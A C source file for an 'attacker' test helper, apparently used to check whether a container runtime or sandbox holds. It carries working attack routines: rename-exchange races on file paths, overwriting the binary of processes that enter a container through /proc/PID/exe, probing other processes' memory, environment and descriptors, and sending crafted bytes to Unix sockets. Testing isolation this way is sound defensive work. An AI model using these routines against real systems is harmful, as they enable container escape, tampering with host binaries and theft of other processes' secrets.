/* SPDX-License-Identifier: Apache-2.0 */
/* Who means no good: in a container, beside it in its files, or as another user of the host.
 *
 * attacker race RUNS A B STOP COMMAND…  run a command RUNS times while A and B change places all the time; ends when
 *                                       the file STOP is there, or anything in the folder STOP. Prints "RUNS SWAPS", and how many succeeded
 * attacker swap A B                     change them until SIGTERM; prints how often
 * attacker exchange A B                 once
 * attacker overwrite                    in a container: write to the file of each program that comes by
 * attacker stalk                        in a container: look into each process that comes by; SIGTERM ends it
 * attacker fds                          which descriptors there are, and what they are
 * attacker connect PATH                 whether a socket lets us in
 * attacker say PATH BYTES [HEX]         send a message of so many bytes that begins with HEX */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <spawn.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { USAGE = 2, SWAPS_LEAST = 2000, BURST = 10000, REST_US = 20000 };

static volatile sig_atomic_t ended;

static void on_term(int signum)
{
	(void)signum;
	ended = 1;
}

static int usage(void)
{
	fprintf(stderr, "usage: attacker race|swap|exchange|overwrite|stalk|fds|connect|say …\n");
	return USAGE;
}

static int failed(const char *what)
{
	perror(what);
	return USAGE;
}

/* ---- changing places ---- */

static bool exchange(const char *a, const char *b)
{
	return renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
}

/* With rests, both where they were: with a processor of its own it would leave no run a chance to succeed, of which a
 * race that shows something has some. */
static void swap_on(const char *a, const char *b, volatile unsigned long *count)
{
	while (!ended)
		if (exchange(a, b) && ++*count % BURST == 0)
			(void)usleep(REST_US);
}

static int swap(const char *a, const char *b)
{
	unsigned long count = 0;

	(void)signal(SIGTERM, on_term);
	swap_on(a, b, &count);
	printf("%lu\n", count);
	return 0;
}

static int run_once(char **command)
{
	posix_spawn_file_actions_t actions;
	int status = -1;
	pid_t pid;

	(void)posix_spawn_file_actions_init(&actions);
	(void)posix_spawn_file_actions_addopen(&actions, 0, "/dev/null", O_RDONLY, 0);
	(void)posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0);
	errno = posix_spawn(&pid, command[0], &actions, NULL, command, environ);
	if (errno == 0)
		(void)waitpid(pid, &status, 0);
	(void)posix_spawn_file_actions_destroy(&actions);
	return status;
}

/* Whether there is such a file, or something in such a folder. */
static bool is_there(const char *path)
{
	DIR *folder = opendir(path);
	const struct dirent *entry;
	bool found = false;

	if (!folder)
		return access(path, F_OK) == 0;
	while (!found && (entry = readdir(folder)))
		found = entry->d_name[0] != '.';
	(void)closedir(folder);
	return found;
}

/* argv: RUNS A B STOP COMMAND… */
static int race(char **argv)
{
	unsigned long *count = mmap(NULL, sizeof(*count), PROT_READ | PROT_WRITE,
	                            MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	long runs = strtol(argv[0], NULL, 10), run = 0, succeeded = 0;
	pid_t swapper;

	if (count == MAP_FAILED)
		return failed("mmap");
	swapper = fork();
	if (swapper < 0)
		return failed("fork");
	if (swapper == 0) {
		(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
		swap_on(argv[1], argv[2], count);
		return 0;
	}
	/* one that succeeds shows that the others could have: so long it goes on, within reason */
	for (; run < runs || *(volatile unsigned long *)count < SWAPS_LEAST ||
	       (succeeded == 0 && run < 25 * runs);
	     run++) {
		if (is_there(argv[3]))
			break;
		succeeded += run_once(argv + 4) == 0;
	}
	(void)kill(swapper, SIGKILL);
	(void)waitpid(swapper, NULL, 0);
	printf("%ld %lu %ld\n", run, *count, succeeded);
	return 0;
}

/* ---- in a container ---- */

static int open_in(const char *pid, const char *what, int flags)
{
	char path[PATH_MAX];

	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
	return open(path, flags | O_CLOEXEC);
}

/* Whether two descriptors are of one file. */
static bool same(int a, int b)
{
	struct stat x, y;

	return fstat(a, &x) == 0 && fstat(b, &y) == 0 && x.st_dev == y.st_dev &&
	       x.st_ino == y.st_ino;
}

/* The file of a program that runs cannot be written: when it has ended, it can. */
static int write_when_ended(int exe)
{
	static const char bytes[] = "#!/overwritten\n";
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	for (int i = 0; i < 10000; i++) {
		int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);

		if (fd >= 0 && write(fd, bytes, sizeof(bytes) - 1) > 0)
			return printf("overwritten\n") < 0;
		if (fd >= 0)
			(void)close(fd);
		if (errno != ETXTBSY)
			break;
		(void)usleep(1000);
	}
	printf("not overwritten: %s\n", strerror(errno));
	return 0;
}

/* Every process that is not of this program; calls deed until it returns true. */
static void for_strangers(int self, bool (*deed)(const char *pid, int self))
{
	while (!ended) {
		DIR *proc = opendir("/proc");
		const struct dirent *entry;
		bool done = false;

		while (proc && !done && (entry = readdir(proc)))
			if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' &&
			    strtol(entry->d_name, NULL, 10) != getpid())
				done = deed(entry->d_name, self);
		if (proc)
			(void)closedir(proc);
		if (done)
			return;
	}
}

/* Those we may meet: by what they run. */
static bool is_stranger(const char *pid)
{
	char name[32] = "";
	int fd = open_in(pid, "comm", O_RDONLY);

	if (fd < 0)
		return false;
	(void)!read(fd, name, sizeof(name) - 1);
	(void)close(fd);
	return strncmp(name, "attacker", 8) != 0 && strncmp(name, "sh\n", 3) != 0 &&
	       strncmp(name, "busybox", 7) != 0 && strncmp(name, "true", 4) != 0;
}

/* In the middle of execve(2) a process has the memory of the container's program already, and its old name. */
static bool runs_ours(int exe)
{
	int ours = open("/bin/true", O_RDONLY | O_CLOEXEC);
	bool is = ours >= 0 && same(exe, ours);

	if (ours >= 0)
		(void)close(ours);
	return is;
}

static bool has_become_ours(const char *pid)
{
	int exe = open_in(pid, "exe", O_RDONLY);
	bool ours = exe >= 0 && runs_ours(exe);

	if (exe >= 0)
		(void)close(exe);
	return ours || !is_stranger(pid);
}

static bool seize_exe(const char *pid, int self)
{
	int exe = open_in(pid, "exe", O_RDONLY);

	if (exe < 0)
		return false;
	if (same(exe, self) || runs_ours(exe) || !is_stranger(pid)) {
		(void)close(exe);
		return false;
	}
	printf("seized\n");
	(void)fflush(stdout);
	(void)write_when_ended(exe);
	return true;
}

static bool look_into(const char *pid, int self)
{
	/* "mem" asks for what ptrace(2) asks for */
	static const char *const doors[] = {"root", "cwd",  "exe",  "mem",    "fd/0",
	                                    "fd/3", "fd/4", "fd/5", "environ"};

	(void)self;
	if (!is_stranger(pid))
		return false;
	for (size_t i = 0; i < sizeof(doors) / sizeof(doors[0]); i++) {
		int fd = open_in(pid, doors[i], O_RDONLY | O_NONBLOCK);

		if (fd < 0)
			continue;
		if (has_become_ours(pid)) {
			(void)close(fd);
			continue;
		}
		printf("reached %s\n", doors[i]);
		(void)fflush(stdout);
		ended = 1;
		return true;
	}
	return false;
}

static int among_strangers(bool (*deed)(const char *pid, int self))
{
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

	if (self < 0)
		return failed("/proc/self/exe");
	(void)signal(SIGTERM, on_term);
	printf("waits\n");
	(void)fflush(stdout);
	for_strangers(self, deed);
	printf("done\n");
	return 0;
}

static int list_descriptors(void)
{
	char path[64], target[PATH_MAX];

	for (int fd = 0; fd < 4096; fd++) {
		ssize_t n;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		printf("%d %.*s\n", fd, n < 0 ? 1 : (int)n, n < 0 ? "?" : target);
	}
	return 0;
}

/* ---- another user ---- */

static int reach(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || strlen(path) >= sizeof(address.sun_path))
		return -1;
	memcpy(address.sun_path, path, strlen(path) + 1);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0)
		return fd;
	(void)close(fd);
	return -1;
}

static int say(const char *path, long length, const char *hex)
{
	static char bytes[1 << 16];
	int fd = reach(path);

	if (fd < 0)
		return failed(path);
	for (size_t i = 0; hex && hex[2 * i] && i < sizeof(bytes); i++) {
		const char digits[3] = {hex[2 * i], hex[2 * i + 1]};

		bytes[i] = (char)strtol(digits, NULL, 16);
	}
	if (length > (long)sizeof(bytes) || send(fd, bytes, (size_t)length, MSG_NOSIGNAL) != length)
		return failed("send");
	return 0;
}

int main(int argc, char **argv)
{
	const char *word = argc > 1 ? argv[1] : "";

	if (strcmp(word, "race") == 0 && argc > 6)
		return race(argv + 2);
	if (strcmp(word, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(word, "exchange") == 0 && argc == 4)
		return exchange(argv[2], argv[3]) ? 0 : failed("renameat2");
	if (strcmp(word, "overwrite") == 0)
		return among_strangers(seize_exe);
	if (strcmp(word, "stalk") == 0)
		return among_strangers(look_into);
	if (strcmp(word, "fds") == 0)
		return list_descriptors();
	if (strcmp(word, "connect") == 0 && argc == 3)
		return reach(argv[2]) >= 0 ? 0 : failed(argv[2]);
	if (strcmp(word, "say") == 0 && argc >= 4)
		return say(argv[2], strtol(argv[3], NULL, 10), argc > 4 ? argv[4] : NULL);
	return usage();
}
